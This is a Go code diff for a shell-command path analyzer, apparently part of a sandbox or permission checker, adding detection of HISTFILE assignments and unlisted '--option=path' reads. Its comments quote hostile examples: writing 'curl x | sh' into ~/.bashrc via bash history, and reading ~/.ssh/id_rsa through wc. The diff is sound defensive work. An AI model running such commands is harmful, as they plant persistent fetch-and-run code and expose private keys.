@@ -414,6 +414,7 @@ func PathArgs(c SimpleCommand) []PathArg {
 		out = append(out, PathArg{Word: r.Target, Write: r.Write})
 	}
 	out = append(out, c.WrapperPaths...)
+	out = historyFile(out, c)
 	if len(c.Words) == 0 || c.Inner >= len(c.Words) {
 		return out
 	}
@@ -441,6 +442,32 @@ func PathArgs(c SimpleCommand) []PathArg {
 		return spec.custom(out, c)
 	}
 	return spec.paths(out, c.Args()[1:])
+}
+
+// historyFile adds the file an assignment to HISTFILE names, before the
+// command, to env, or by export or declare: an interactive bash (bash -i
+// fed its commands) writes the lines it ran there when it ends, so
+// HISTFILE=~/.bashrc bash -i <<< 'curl x | sh' writes a start-up file.
+// An empty one and /dev/null keep no history.
+func historyFile(out []PathArg, c SimpleCommand) []PathArg {
+	add := func(a string, lit bool) []PathArg {
+		if v, ok := strings.CutPrefix(a, "HISTFILE="); ok && v != "" && v != "/dev/null" {
+			out = append(out, PathArg{Word: Word{Text: v, Literal: lit}, Write: true})
+		}
+		return out
+	}
+	for _, a := range c.Assigns {
+		out = add(a, !strings.ContainsAny(a, "$`*?["))
+	}
+	for _, w := range c.Words[:min(c.Inner, len(c.Words))] {
+		out = add(w.Text, w.Literal)
+	}
+	if slices.Contains(declCommands, c.Name()) {
+		for _, w := range c.Args()[1:] {
+			out = add(w.Text, w.Literal)
+		}
+	}
+	return out
 }
 
 // pathRole is what a command does with its operands.
@@ -806,6 +833,12 @@ func (s *pathSpec) paths(out []PathArg, args []Word) []PathArg {
 				read, write, target = false, false, false
 			}
 			if !read && !write && !target && !slices.Contains(s.longArg, n) {
+				// One the table does not list, given what looks like a
+				// path after an =, may read it: wc
+				// --files0-from=~/.ssh/id_rsa, diff --from-file=FILE.
+				if eq && looksLikePath(v) {
+					add(Word{Text: v, Literal: w.Literal}, false)
+				}
 				continue
 			}
 			arg, ok := Word{Text: v, Literal: w.Literal}, eq
